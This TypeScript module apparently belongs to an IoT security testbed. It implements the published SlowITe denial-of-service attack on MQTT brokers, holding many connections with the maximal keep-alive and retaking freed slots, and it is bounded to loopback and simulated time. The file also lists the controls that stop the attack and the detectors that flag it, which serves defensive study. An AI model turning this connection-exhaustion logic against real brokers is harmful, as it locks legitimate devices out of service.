import { z } from 'zod';
import type { AdversarySession } from '../adversary/adversary.ts';
import { defineAttack } from './attack.ts';

/** The largest keep-alive MQTT can express, s [MQTT-3.1.2.10]: what SlowITe asks for (about 18 h). */
export const SLOWITE_KEEPALIVE_S = 65_535;

/**
 * SlowITe (Vaccari et al. 2020): connect, ask for the longest keep-alive MQTT allows, and say as
 * little as possible, so each connection holds one of the broker's slots for as long as it likes. A
 * slot the broker frees — a device's connection dropped by the network — is taken again at the next
 * round, so the device, coming back, finds the broker full. Bounded: at most `connections` held, one
 * round of attempts every `everyS` of simulated time, loopback only.
 */
export const slowite = defineAttack({
  name: 'attack.slowite',
  category: 'attack',
  summary: 'hold as many broker connections as it can: CONNECT with a 65,535 s keep-alive, then a PINGREQ now and then',
  precedent:
    'Vaccari, Aiello and Cambiaso, "SlowITe, a Novel Denial of Service Attack Affecting MQTT", Sensors 20(10):2932, 2020: ' +
    'a few hundred idle connections with the maximal keep-alive took every slot of a Mosquitto broker, so new clients were ' +
    'refused; MQTTset labels it "slowite". A device dropped by a Wi-Fi roam or an access-point reboot cannot come back.',
  labels: { mqttset: 'slowite' },
  techniques: ['T0814', 'T0815', 'T0826'],
  stoppedBy: [
    { control: 'authentication', how: 'a CONNECT without credentials gets CONNACK 5 and its socket closed: it holds no slot' },
    { control: 'mutualTls', how: 'without a client certificate from the run CA the handshake fails and the socket closes before MQTT' },
  ],
  detectedBy: ['slow-connections', 'connect-flood', 'unknown-client', 'refused-access'],
  impacts: ['devices-unavailable-minutes', 'time-to-detection'],
  params: z.strictObject({
    connections: z.number().int().min(1).max(200).default(50).describe('connections to hold at most (bounded)'),
    everyS: z
      .number()
      .int()
      .min(1)
      .max(300)
      .default(10)
      .describe('simulated seconds between rounds: a PINGREQ on each connection held, and any slot freed taken again'),
  }),
  async execute(context, params) {
    const sessions: AdversarySession[] = [];
    let opened = 0;
    /** Connects until `connections` are held or the broker refuses one (it is full, or it refuses outsiders). */
    const fill = async () => {
      while (sessions.filter((s) => s.connected).length < params.connections) {
        const id = `slowite-${String(++opened).padStart(4, '0')}`;
        const session = await context.adversary.connect(id, undefined, undefined, { keepaliveS: SLOWITE_KEEPALIVE_S });
        if (session === undefined) return;
        sessions.push(session);
      }
    };
    await fill();
    return {
      sessions,
      exposed: () => [],
      repeat: {
        everyMs: params.everyS * 1000,
        async act() {
          // Two bytes per connection keep it alive whatever keep-alive the broker holds it to (docs/attacks.md).
          await Promise.all(sessions.filter((s) => s.connected).map((s) => s.fence()));
          await fill();
        },
      },
      async stop() {
        await Promise.all(sessions.map((s) => s.close()));
      },
    };
  },
});
